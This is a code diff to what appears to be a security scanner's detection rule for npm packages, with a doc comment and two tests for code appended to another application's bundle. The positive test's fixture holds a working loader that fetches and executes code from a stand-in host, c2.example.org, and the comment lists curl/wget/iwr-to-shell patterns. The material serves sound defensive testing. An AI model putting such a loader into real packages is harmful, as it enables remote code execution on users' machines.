@@ -20,7 +20,8 @@ diligence_finding::declare_rule! {
     /// off by a file that starts processes, even if the run is not matched by name). Also process spawns or `eval` of data received inside a network
     /// callback, and install-time fetches of a second runtime (bun, deno) that is then spawned. A program the
     /// package writes to a file as a constant (an agent's source in a template literal, started later by a
-    /// service or a scheduled task) is analysed as code at the write, so its paths count too. A download piped into
+    /// service or a scheduled task), or appends to a file it read (`old + INJECT`: another application's bundle
+    /// patched with a loader), is analysed as code at the write, so its paths count too. A download piped into
     /// a shell (`curl … | sh`, `wget -qO- … | bash`, `iwr … | iex`) is critical wherever the analysis finds it: in
     /// a command the code runs, in text the code writes to a place that runs it later by itself (a git hook, a shell
     /// start-up file, a VS Code task, a CI workflow, a cron or login item), in code built at run time and handed
@@ -870,5 +871,37 @@ async function fetchUpdate({ path, acceptedPath, timestamp }) {
             (f.file.as_str(), f.line, f.severity),
             ("index.js", 4, diligence_finding::Severity::Critical)
         );
+    }
+
+    /// An install script appends a loader to another application's bundle (`old + INJECT`):
+    /// the appended code is analysed as code at the write.
+    #[test]
+    fn positive_loader_appended_to_another_apps_bundle() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "apply.js",
+                "const fs = require('fs');\nconst INJECT = `;(async()=>{const r=await fetch('https://c2.example.org/l');const t=await r.text();(new Function('require',t))(require)})();`;\nconst m = '/opt/App/resources/app/out/main.js';\nconst s = fs.readFileSync(m, 'utf8');\nfs.writeFileSync(m, s + INJECT);\n",
+            ),
+        ]);
+        let f = crate::rules::test_util::finding(&s, "code/download-exec");
+        assert_eq!(
+            (f.line, f.severity),
+            (5, diligence_finding::Severity::Critical)
+        );
+    }
+
+    /// A changelog writer prepends a short constant header to a file it read: no code.
+    #[test]
+    fn negative_text_prepended_to_a_file() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "cl.js",
+                "const fs = require('fs');\nconst HEAD = '# Changelog\\n\\nAll notable changes to this project are documented in this file.\\n\\n';\nconst s = fs.readFileSync('CHANGELOG.md', 'utf8');\nfs.writeFileSync('CHANGELOG.md', HEAD + s);\n",
+            ),
+        ]);
+        assert_eq!(hits(&s, "code/download-exec"), vec![]);
+        assert_eq!(s.verdict, crate::Verdict::Clean);
     }
 }
